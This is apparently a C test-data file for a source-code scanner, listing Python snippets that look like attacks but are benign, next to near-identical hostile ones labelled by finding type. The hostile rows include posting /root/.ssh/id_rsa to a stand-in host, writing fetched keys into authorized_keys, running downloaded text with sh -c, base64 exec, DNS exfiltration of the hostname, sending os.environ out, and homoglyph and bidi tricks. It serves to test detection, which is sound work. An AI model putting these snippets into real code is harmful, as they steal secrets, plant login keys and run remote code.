/* Honest code that was once taken for an attack, and the attacks that come nearest to it. */
#include "tests/scanner/source/source_rows.h"

#include "customhouse/bytes.h"
#include "scanner/content/content.h"

enum { P_IMPORT = CH_PLACE_IMPORT };

#define BIDI  "\xe2\x80\xae\xe2\x81\xa6"
#define SLACK "W = 'https://hooks.slack.com/services/"
#define PROGRAM(s)                                                                                 \
    "import requests, sys, types\n" s                                                              \
    "if __name__ == '__main__':\n    requests.get('http://example.org/')\n"
#define LOAD "return torch.load(io.BytesIO(requests.get(u).content), "

#define TASK   "import requests\nfrom airflow.sdk import dag, task, task_group\n"
#define CALLED "def f():\n    requests.get('http://example.org/')\nf()\n"

#define THEFT  "environment-theft"
#define SENDS_KEY                                                                                  \
    "import os, requests\ndef listing(key, get=requests.get):\n"                                   \
    "    get(U + '/models', headers={'Authorization': f'Bearer {key}'})\n"
#define SENDS_SECOND                                                                               \
    "import os, requests\ndef send(env, key):\n    requests.post(U, json={'key': f'{key}'})\n"

const struct source_row source_row_near[] = {
    /* a docstring that shows what bidirectional controls do */
    {P_IMPORT, NULL,
     "r\"\"\"\nShows this:\n    if level != 'none" BIDI "': # admin\nand more.\n\"\"\"\nx = 1\n"},
    {P_IMPORT, NULL, "def f():\n    \"\"\"a\n    " BIDI "\n    \"\"\"\n    return 1\n"},
    {P_IMPORT, "bidi-control", "\"\"\"a " BIDI "\n\"\"\"\n"}, /* on the line of its quotes */
    {P_IMPORT, "bidi-control", "\"\"\"a\n" BIDI " \"\"\"\n"},
    {P_IMPORT, "bidi-control", "\"\"\"\na \"\" " BIDI "\" b\n\"\"\"\n"}, /* seems to end it */
    {P_IMPORT, "bidi-control", "x = \"\"\"\na " BIDI "\n\"\"\"\n"},
    {P_IMPORT, "bidi-control", "exec(\"\"\"\na " BIDI "\n\"\"\")\n"},
    {P_IMPORT, "bidi-control", "\"\"\"\na " BIDI "\n\"\"\".run()\n"},
    {P_IMPORT, "bidi-control", "\"\"\"\na " BIDI "\n\"\"\"\nexec(__doc__)\n"},
    {P_IMPORT, "bidi-control", "\"\"\"\na\rx = 1 # " BIDI "\n\"\"\"\n"},
    {P_IMPORT, "bidi-control", "'''\na " BIDI "\n'''\n"},
    {P_IMPORT, "bidi-control", "x = 1  # \"\"\" " BIDI "\ny = 2  # \"\"\"\n"},
    {P_IMPORT, "bidi-control", "\"\"\"\n" BIDI "\n\"\"\"\nx = 'a'  # " BIDI "\n"},
    /* nobody's ids, and no secret */
    {P_IMPORT, NULL, SLACK "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\n"},
    {P_IMPORT, "drop-address", SLACK "T00000000/B00000000/AbCdEfGhIjKlMnOpQrStUvWx'\n"},
    {P_IMPORT, "drop-address", SLACK "T01ABCDEF/B01ABCDEF/XXXXXXXXXXXXXXXXXXXXXXXX'\n"},
    {P_IMPORT, "drop-address", SLACK "T00000000/B00000001/XXXXXXXXXXXXXXXXXXXXXXXX'\n"},
    {P_IMPORT, "drop-address", SLACK "T01ABCDEF/B01ABCDEF/AbCdEfGhIjKlMnOpQrStUvWx'\n"},
    /* a program for another interpreter, which somebody else gives */
    {P_IMPORT, NULL,
     "import base64\ndef f(python, code):\n    e = base64.b64encode(code.encode())\n    return "
     "[python, '-c', f'import base64;exec(base64.b64decode({e}).decode())']\n"},
    {P_IMPORT, "hidden-code",
     "def f(x):\n    exec(f'import base64;exec(base64.b64decode({x}).decode())')\n"},
    {P_IMPORT, "hidden-code",
     "import subprocess, sys\ndef f(x):\n    subprocess.run([sys.executable, '-c', "
     "f'import base64;exec(base64.b64decode({x}).decode())'])\n"},
    {P_IMPORT, "hidden-code",
     "import os\ndef f(x):\n    os.system(f'python3 -c \"import "
     "base64;exec(base64.b64decode({x}))\"')\n"},
    {P_IMPORT, "hidden-code",
     "import subprocess, sys\nX = b'cHJpbnQoMSk='\ndef f():\n    subprocess.run([sys.executable, "
     "'-c', f'import base64;exec(base64.b64decode({X}))'])\n"},
    /* a name given to a module that is made, and to this one */
    {P_IMPORT, NULL,
     PROGRAM("m = types.ModuleType('x')\nvars(m).update({'__name__': '__main__'})\n")},
    {P_IMPORT, NULL,
     PROGRAM("m = types.ModuleType('x')\nn = vars(m)\nn.update({'__name__': '__main__'})\n")},
    {P_IMPORT, "import-network",
     PROGRAM("vars(sys.modules[__name__]).update({'__name__': '__main__'})\n")},
    {P_IMPORT, "import-network",
     PROGRAM("m = types.ModuleType('x')\nif a:\n    m = sys.modules[__name__]\n"
             "vars(m).update({'__name__': '__main__'})\n")},
    {P_IMPORT, "import-network",
     PROGRAM("m = sys.modules[__name__]\nif a:\n    m = types.ModuleType('x')\n"
             "vars(m).update({'__name__': '__main__'})\n")},
    {P_IMPORT, "import-network",
     PROGRAM(
         "def f(m):\n    vars(m).update({'__name__': '__main__'})\nf(sys.modules[__name__])\n")},
    {P_IMPORT, "import-network",
     PROGRAM("m = types.ModuleType('x')\nm = sys.modules[__name__]\nvars(m).update({'__name__': "
             "'__main__'})\n")},
    /* an address is shown, and a program started */
    {P_IMPORT, NULL,
     "import requests, webbrowser\ndef f(u):\n    "
     "webbrowser.open(requests.get(u).json()['url'])\n"},
    {P_IMPORT, "remote-code",
     "import requests, os\ndef f(u):\n    os.startfile(requests.get(u).json()['url'])\n"},
    {P_IMPORT, "import-network", "import webbrowser\nwebbrowser.open('http://example.org/')\n"},
    /* a slip of the keyboard, and a name for another */
    {P_IMPORT, NULL,
     "class A:\n    def _data_\xd1\x81ontour(self):\n        return 1\n"
     "    def f(self):\n        return self._data_\xd1\x81ontour()\n"},
    {P_IMPORT, "look-alike-name",
     "def _l\xd0\xbe"
     "ad():\n    pass\ndef _load():\n    pass\n"},
    {P_IMPORT, "look-alike-name",
     "from .a import _l\xd0\xbe"
     "ad\n_l\xd0\xbe"
     "ad()\n"},
    {P_IMPORT, "look-alike-name",
     "def __l\xd0\xbe"
     "ad__(self):\n    pass\n"},
    {P_IMPORT, "look-alike-name",
     "def l\xd0\xbe"
     "ad(self):\n    pass\n"},
    /* how one of two values is put together says nothing of the other's name */
    {P_IMPORT, NULL,
     "import requests\ndef f(a):\n    s = 'v{}'.format(a) or requests.Session()\n"
     "    return s.request('GET', a)\n"},
    {P_IMPORT, "hidden-name",
     "import requests\ndef f(a):\n    s = a or getattr(requests, 'Ses' + 'sion')()\n"
     "    return s.request('GET', a)\n"},
    {P_IMPORT, "hidden-name",
     "import os\ndef f(a):\n    g = a or getattr(os, 'sys' + 'tem')\n    g('id')\n"},
    /* the machine's own name, and one that is made of it */
    {P_IMPORT, NULL,
     "import socket\ndef f():\n    return str(socket.gethostname()).split('.local', 1)[0]\n"
     "def g():\n    return socket.gethostbyname(f())\n"},
    {P_IMPORT, NULL,
     "import socket\ndef f(name=''):\n    name = name.strip()\n    if not name:\n"
     "        name = socket.gethostname()\n    for a in socket.getaddrinfo(name, None):\n"
     "        name = a[3]\n    return name\ndef g():\n    return socket.gethostbyname(f())\n"},
    {P_IMPORT, NULL,
     "import socket\ndef f():\n    h = socket.gethostname()\n"
     "    return socket.gethostbyname(h.split('.')[0].lower())\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    socket.gethostbyname(socket.gethostname() + d)\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    h = socket.gethostname()\n    h += d\n"
     "    socket.gethostbyname(h)\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    h = socket.gethostname().split('.')[0]\n"
     "    if d:\n        h = h + d\n    socket.gethostbyname(h)\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    h = socket.gethostname() + d\n    if d:\n        h = d\n"
     "    socket.gethostbyname(h)\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    socket.gethostbyname('.'.join([socket.gethostname(), d]))\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    socket.gethostbyname(d % socket.gethostname())\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    socket.gethostbyname(d.format(socket.gethostname()))\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f():\n    socket.gethostbyname('H.x.example.org'.replace('H', "
     "socket.gethostname()))\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    h = socket.gethostname().split('.')[0]\n"
     "    socket.gethostbyname(h.replace('-', d))\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef e(h):\n    return h[::-1] + '.x.example.org'\n"
     "def f():\n    socket.gethostbyname(e(socket.gethostname()))\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef name():\n    return f'{socket.gethostname()}.{D}'\n"
     "def f():\n    socket.gethostbyname(name())\n"},
    {P_IMPORT, "dns-theft",
     "import socket\ndef f(d):\n    socket.gethostbyname((socket.gethostname() + d) or d)\n"},
    /* keys that may log in: somebody's whom one is told of, and one's own */
    {P_IMPORT, NULL,
     "import os\ndef f(d):\n    p = os.path.join(d, '.ssh/authorized_keys')\n"
     "    open(p, 'w').close()\n    return p\nif __name__ == '__main__':\n    f('x')\n"},
    {P_IMPORT, NULL,
     "import os\ndef f(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
     "o:\n        o.write(key)\n"},
    {P_IMPORT, "login-key",
     "import os\ndef f(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
     "o:\n        o.write(key)\nf(K)\n"},
    {P_IMPORT, "login-key",
     "import os, requests\ndef f():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), "
     "'a') as o:\n        o.write(requests.get('http://example.org/').text)\n"},
    {P_IMPORT, "login-key",
     "from pathlib import Path\nK = 'ssh-ed25519 x'\ndef f():\n    "
     "(Path.home() / '.ssh/authorized_keys').write_text(K)\n"},
    {P_IMPORT, "login-key",
     "import os\ndef f():\n    os.system('echo ssh-ed25519 x >> ~/.ssh/authorized_keys')\n"},
    {P_IMPORT, "login-key",
     "import os, shutil\ndef f(p):\n    shutil.copy(p, "
     "os.path.expanduser('~/.ssh/authorized_keys'))\n"},
    {CH_PLACE_INSTALL, "login-key",
     "import os\ndef f(k):\n    open(os.path.expanduser('~/.ssh/authorized_keys'), "
     "'a').write(k)\n"},
    /* an address that was fetched, and a program */
    {P_IMPORT, NULL,
     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
     "    subprocess.run(['curl', '-o', 'x', u])\n"},
    {P_IMPORT, "remote-code",
     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
     "    subprocess.run(['sh', '-c', u])\n"},
    {P_IMPORT, "remote-code",
     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
     "    subprocess.run(['curl ; ' + u], shell=True)\n"},
    {P_IMPORT, "remote-code",
     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
     "    subprocess.run([u, '-o', 'x'])\n"},
    {P_IMPORT, "remote-code",
     "import requests, subprocess\ndef f(u, a):\n    u = requests.get(u).text\n"
     "    c = ['curl', '-o', 'x', u]\n    if a:\n        c = ['sh', '-c', u]\n"
     "    subprocess.run(c)\n"},
    /* a package's __main__.py */
    {CH_PLACE_PROGRAM, NULL, "import requests\nrequests.get('http://example.org/')\n"},
    {CH_PLACE_PROGRAM, NULL,
     "import requests\ndef f():\n    requests.get('http://example.org/')\nf()\n"},
    {CH_PLACE_PROGRAM, "hidden-code", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
    {CH_PLACE_PROGRAM, "secret-theft",
     "import requests\nrequests.post('http://example.org/', "
     "data=open('/root/.ssh/id_rsa').read())\n"},
    /* a task of Airflow is called by its scheduler */
    {P_IMPORT, NULL, TASK "@task\n" CALLED},
    {P_IMPORT, NULL, TASK "@task(retries=5)\n" CALLED},
    {P_IMPORT, NULL, TASK "@task.branch\n" CALLED},
    {P_IMPORT, "import-network", TASK "@task_group\n" CALLED},
    {P_IMPORT, "import-network", TASK "@dag\n" CALLED},
    {P_IMPORT, "import-network", "from .sdk import task\nimport requests\n@task\n" CALLED},
    {P_IMPORT, "import-network", "def task(f):\n    return f\nimport requests\n@task\n" CALLED},
    {P_IMPORT, "import-network",
     "import requests\ntry:\n    from airflow.sdk import task\nexcept ImportError:\n"
     "    task = lambda f: f\n@task\n" CALLED},
    /* tensors, and objects */
    {P_IMPORT, NULL, "import io, requests, torch\ndef f(u):\n    " LOAD "weights_only=True)\n"},
    {P_IMPORT, "remote-code",
     "import io, requests, torch\ndef f(u):\n    " LOAD "weights_only=False)\n"},
    {P_IMPORT, "remote-code", "import io, requests, torch\ndef f(u, **k):\n    " LOAD "**k)\n"},
    {P_IMPORT, "remote-code",
     "import io, requests, torch\ndef f(u, w):\n    " LOAD "weights_only=w)\n"},
    {P_IMPORT, "remote-code",
     "import io, requests, torch\nTrue_ = 0\ndef f(u):\n    " LOAD "weights_only=True_)\n"},
    {P_IMPORT, "remote-code",
     "import io, pickle, requests\ndef f(u):\n    "
     "return pickle.load(io.BytesIO(requests.get(u).content), weights_only=True)\n"},
    /* a function that is told the environment, and sends another of its arguments */
    {P_IMPORT, NULL,
     SENDS_KEY "def sync(env, key):\n    return listing(key)\n"
               "def g():\n    sync(os.environ, 'k')\n"},
    {P_IMPORT, NULL, SENDS_SECOND "def g():\n    send(os.environ, 'k')\n"},
    {P_IMPORT, NULL, SENDS_SECOND "def g():\n    send(key='k', env=dict(os.environ))\n"},
    {P_IMPORT, NULL,
     "import os, requests\nclass C:\n    def send(self, env, key):\n"
     "        requests.post(U, json={'k': key})\n"
     "def g():\n    C().send(os.environ, 'k')\n"},
    {P_IMPORT, THEFT, SENDS_KEY "listing(os.environ)\n"},
    {P_IMPORT, THEFT, SENDS_SECOND "send('k', os.environ)\n"},
    {P_IMPORT, THEFT, SENDS_SECOND "send(env='k', key=dict(os.environ))\n"},
    {P_IMPORT, THEFT, SENDS_SECOND "send(*['k', os.environ])\n"},
    {P_IMPORT, THEFT, SENDS_SECOND "send('k', **{'key': os.environ})\n"},
    {P_IMPORT, THEFT, SENDS_SECOND "import functools\nfunctools.partial(send, 'k')(os.environ)\n"},
    {P_IMPORT, THEFT,
     "import os, requests\ndef send(*keys):\n    requests.post(U, json=keys)\n"
     "send('k', os.environ)\n"},
    {P_IMPORT, THEFT,
     "import os, requests\ndef send(a, *, b, **keys):\n"
     "    requests.post(U, json=keys)\nsend('k', b=1, c=os.environ)\n"},
    {P_IMPORT, THEFT,
     "import os, requests\ndef send(a, *, b):\n    requests.post(U, json={'b': f'{b}'})\n"
     "send('k', b=os.environ)\n"},
    {P_IMPORT, THEFT,
     "import os, requests\nclass C:\n    def send(self, key, env):\n"
     "        requests.post(U, json={'k': env})\n"
     "C().send('k', os.environ)\n"},
    {P_IMPORT, THEFT,
     "import os, requests\ndef same(a, b):\n    return f'{b}'\n"
     "requests.post(U, json=same('k', os.environ))\n"},
    {P_IMPORT, NULL,
     "import os, requests\ndef same(a, b):\n    return f'{a}'\ndef g():\n"
     "    requests.post(U, json=same('k', os.environ))\n"},
};

const size_t source_row_near_count = CH_ARRAY_LEN(source_row_near);
